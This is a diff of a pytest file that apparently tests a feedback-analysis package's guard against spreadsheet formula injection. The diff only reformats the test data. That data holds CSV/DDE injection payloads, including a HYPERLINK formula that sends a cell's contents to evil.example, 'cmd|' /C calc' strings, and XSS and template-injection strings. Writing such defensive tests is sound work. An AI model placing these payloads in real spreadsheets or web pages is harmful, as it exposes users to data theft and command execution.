@@ -9,10 +9,19 @@ import pytest
 
 from vocnlp.io.spreadsheet_safety import guard_text, guarded, unguard_text
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+33 6 12 34 56 78 rappelez-moi", "-2 étoiles, nul",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
-MARKUP = ["<script>alert(1)</script> The bill was wrong twice.", "<img src=x onerror=alert(2)> The app keeps crashing.",
-          "{{ 7*7 }} {% raw %} The advisor was rude."]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "+33 6 12 34 56 78 rappelez-moi",
+    "-2 étoiles, nul",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+MARKUP = [
+    "<script>alert(1)</script> The bill was wrong twice.",
+    "<img src=x onerror=alert(2)> The app keeps crashing.",
+    "{{ 7*7 }} {% raw %} The advisor was rude.",
+]
 
 
 def test_guard_marks_only_formula_starts_and_comes_off_again():
@@ -37,11 +46,20 @@ def hostile_run(pipeline, tmp_path_factory):
     from vocnlp.pipeline.runner import analyze_table
 
     folder = tmp_path_factory.mktemp("hostile")
-    texts = PAYLOADS + ["Le conseiller\x0b était \x1b[31mtrès\x00 aimable", "Bill wrong twice, still waiting.",
-                        "=1+1 and the app crashes", *MARKUP]
-    frame = pd.DataFrame({"id": [f"c{i}" for i in range(len(texts))], "comment": texts,
-                          "nps": [i % 11 for i in range(len(texts))],
-                          "agence": (["=cmd|' /C calc'!A0", "Paris", "@evil"] * 4)[:len(texts)]})
+    texts = PAYLOADS + [
+        "Le conseiller\x0b était \x1b[31mtrès\x00 aimable",
+        "Bill wrong twice, still waiting.",
+        "=1+1 and the app crashes",
+        *MARKUP,
+    ]
+    frame = pd.DataFrame(
+        {
+            "id": [f"c{i}" for i in range(len(texts))],
+            "comment": texts,
+            "nps": [i % 11 for i in range(len(texts))],
+            "agence": (["=cmd|' /C calc'!A0", "Paris", "@evil"] * 4)[: len(texts)],
+        }
+    )
     source = folder / "hostile.parquet"
     frame.to_parquet(source, index=False)
     config = load_config(overrides={"input": {"columns": {"segments": ["agence"]}}})
